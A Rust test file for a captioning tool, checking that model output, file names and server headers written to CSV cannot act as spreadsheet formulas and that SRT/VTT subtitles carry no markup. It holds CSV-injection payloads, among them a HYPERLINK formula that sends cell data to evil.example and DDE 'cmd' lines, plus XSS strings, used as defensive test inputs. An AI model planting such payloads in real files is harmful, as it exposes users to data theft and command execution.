//! Text of a model, a server or a file name is no formula in a spreadsheet and no markup in
//! subtitles.

use std::fs;

use regex::Regex;
use serde_json::json;

use crate::harness::{Caption, answer, caption, clip, finish, json_reply};
use support::stand_in::StandIn;

/// First characters of formulas. Source: OWASP, "CSV Injection".
const STARTS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// Markup that players interpret in subtitles: tags, with and without attributes, and the codes of
/// SSA and `MicroDVD`, which many of them take in `SubRip` too.
const MARKUP: [&str; 10] = [
    "<b>Rain</b> falls.",
    "Rain <font color=\"#ff0000\" size=\"72\">falls</font>.",
    "<script>alert(1)</script> Rain.",
    "Rain <img src=x onerror=alert(1)> falls.",
    "{\\an8}Rain {\\pos(1,1)}falls.",
    "Rain\\Nfalls\\hhard.",
    "{y:i}Rain falls {c:$0000ff}hard.",
    "<v Bob>Rain <c.loud>falls</c> <00:00:00.100>hard.",
    "Rain <I>falls < /i> on <ruby>a<rt>b</rt></ruby>.",
    "Rain 00:00:01,000 --> 00:00:02,000 falls &lt;b&gt;hard&lt;/b&gt;.",
];

/// The cells of a table, the heading left out.
#[track_caller]
fn cells(table: &str) -> Vec<Vec<String>> {
    let mut rows = csv::Reader::from_reader(table.as_bytes());
    rows.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

/// Asserts that no cell is a formula, and that one of them is this text.
#[track_caller]
fn assert_inert(table: &str, text: &str) {
    let cells = cells(table).concat();
    for cell in &cells {
        assert!(!cell.starts_with(STARTS), "{cell:?} in {table}");
    }
    assert!(cells.contains(&format!("'{text}")), "{text:?} is not in {table}");
}

fn table(run: Caption) -> String {
    run.args(["-f", "csv"]).run().stdout
}

#[test]
fn a_caption_is_not_a_formula() {
    for text in [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Rain\")",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "- A bell, then rain.",
    ] {
        let stand_in = StandIn::scripted([answer(text)]);
        assert_inert(&table(caption(&stand_in).data_file("tone.wav").arg("tone.wav")), text);
    }
    for start in STARTS {
        let stand_in = StandIn::scripted([answer("1+1")]);
        let run = caption(&stand_in)
            .data_file("tone.wav")
            .args([format!("--prepend={start}").as_str(), "tone.wav"]);
        assert_inert(&table(run), &format!("{start}1+1"));
    }
}

#[cfg(unix)]
#[test]
fn the_name_of_an_input_is_not_a_formula() {
    for start in STARTS {
        let name = format!("{start}1+1.wav");
        let stand_in = StandIn::always(|| answer("Rain."));
        let run = caption(&stand_in).file(&name, clip(0)).args(["--", &name]);
        let ended = run.run();
        assert_eq!(ended.code, 0, "{}", ended.stderr);
        let run = caption(&stand_in).file(&name, clip(0)).file("list", format!("{name}\0"));
        assert_inert(&table(run.args(["-0", "--files-from", "list"])), &name);
    }
}

#[test]
fn other_text_of_a_server_or_a_rule_is_not_a_formula() {
    for start in ["=", "+", "-", "@"] {
        let evil = format!("{start}1+1");
        let stand_in = StandIn::scripted([answer("Rain.").header("x-request-id", &evil)]);
        let run =
            caption(&stand_in).data_file("tone.wav").args([&format!("--model={evil}"), "tone.wav"]);
        let printed = table(run);
        assert_inert(&printed, &evil);
        let cell = format!("'{evil}");
        let count = cells(&printed).concat().into_iter().filter(|other| *other == cell).count();
        assert_eq!(count, 2, "the model and the request: {printed}");
        let stand_in = StandIn::scripted([answer("Rain.")]);
        let toml = format!("[[rule]]\nname = '{evil}'\ndeny = 'rain'\n");
        let run =
            caption(&stand_in).data_file("tone.wav").file("caption.toml", toml).arg("tone.wav");
        let printed = table(run);
        assert!(printed.contains(&format!("'{evil}")), "{printed}");
        for cell in cells(&printed).concat() {
            assert!(!cell.starts_with(STARTS), "{cell:?} in {printed}");
        }
    }
}

#[test]
fn cells_are_not_split_at_another_separator() {
    // Where the comma stands before decimals, spreadsheets part cells at semicolons; others ask.
    for text in ["Rain;=1+1", "Rain\t=1+1", "Rain|=1+1", "Rain;\"=1+1\";x", "Rain, wind;=1+1"] {
        let stand_in = StandIn::scripted([answer(text)]);
        let printed = table(caption(&stand_in).data_file("tone.wav").arg("tone.wav"));
        let quoted = format!("\"{}\"", text.replace('"', "\"\""));
        assert!(printed.contains(&quoted), "{printed}");
        assert_eq!(cells(&printed)[0][3], text);
    }
}

#[test]
fn csv_files_and_sidecars_hold_no_formula() {
    let stand_in = StandIn::always(|| answer("=1+1"));
    for (args, file) in
        [(&["--sidecar", "-f", "csv"][..], "tone.csv"), (&["-o", "t.csv", "-f", "csv"], "t.csv")]
    {
        let mut run = caption(&stand_in).data_file("tone.wav").args(args).arg("tone.wav");
        finish(run.spawn()).ended(0);
        assert_inert(&fs::read_to_string(run.folder().join(file)).unwrap(), "=1+1");
    }
}

#[test]
fn other_text_and_numbers_are_unchanged() {
    let choice =
        json!({ "message": { "content": "Rain = wind - 'hail'." }, "finish_reason": "stop" });
    let body = json!({
        "choices": [choice], "usage": { "prompt_tokens": 61, "completion_tokens": 212 },
        "meta": { "usage": { "usd_spent": 0.00031, "credits_used": 620 } },
    });
    let stand_in = StandIn::scripted([json_reply(200, &body)]);
    let printed = table(caption(&stand_in).data_file("tone.wav").arg("tone.wav"));
    let row = &cells(&printed)[0];
    assert_eq!(row[0], "tone.wav");
    assert_eq!(row[3], "Rain = wind - 'hail'.");
    assert_eq!((&row[2], &row[6], &row[7]), (&"0.25".into(), &"61".into(), &"212".into()));
    assert_eq!(row[8].parse::<f64>().unwrap().to_bits(), 0.00031_f64.to_bits());
}

#[test]
fn subtitles_hold_no_markup_of_a_model() {
    let tag = Regex::new(r"<\s*[/!?]?\s*[A-Za-z0-9]").unwrap();
    let code = Regex::new(r"\{\s*[\\A-Za-z]|\\[Nnh]").unwrap();
    let entity = Regex::new(r"&(?:lt|gt|#\d+|#x[0-9a-fA-F]+);").unwrap();
    for format in ["srt", "vtt"] {
        for text in MARKUP {
            let stand_in = StandIn::scripted([answer(text)]);
            let run = caption(&stand_in).data_file("tone.wav").args(["-f", format, "tone.wav"]);
            let printed = run.run().captioned();
            let (_, words) = printed.split_once(" --> ").unwrap();
            let (_, words) = words.split_once('\n').unwrap();
            assert!(!words.contains("-->"), "{format}: {printed}");
            assert!(!tag.is_match(words), "{format}: {printed}");
            assert!(!code.is_match(words), "{format}: {printed}");
            if format == "vtt" {
                // What the model wrote as `&lt;` is shown like that, and makes no tag.
                assert_eq!(entity.is_match(text), words.contains("&amp;lt;"), "{printed}");
            }
            // The words are there all the same.
            for word in ["Rain", "falls"].into_iter().filter(|word| text.contains(word)) {
                assert!(words.contains(word), "{format}: {printed}");
            }
        }
    }
}

#[test]
fn subtitles_of_windows_and_sidecars_hold_no_markup_of_a_model() {
    let stand_in = StandIn::always(|| answer("<b>Rain</b> {\\an8}falls."));
    let sound = support::audio::wav(8_000, 1, 8, &vec![0.1; 8_000 * 9]);
    let mut run = caption(&stand_in).file("a.wav", sound);
    run = run.args(["--window", "5s", "--sidecar", "-f", "srt", "-f", "vtt", "a.wav"]);
    finish(run.spawn()).ended(0);
    for file in ["a.srt", "a.vtt"] {
        let written = fs::read_to_string(run.folder().join(file)).unwrap();
        assert_eq!(written.matches("Rain").count(), 2, "{written}");
        assert!(!written.contains("<b"), "{file}: {written}");
        assert!(!written.contains("{\\"), "{file}: {written}");
    }
}

#[test]
fn a_comparison_in_a_subtitle_stays_readable() {
    let stand_in = StandIn::scripted([answer("A level < -20 dB & > -30 dB {sic}.")]);
    let run = caption(&stand_in).data_file("tone.wav").args(["-f", "srt", "tone.wav"]);
    let printed = run.run().captioned();
    for word in ["A level", "-20 dB", "-30 dB", "sic"] {
        assert!(printed.replace('\n', " ").contains(word), "{printed}");
    }
    assert!(!printed.contains("&lt;") && !printed.contains("&amp;"), "{printed}");
}
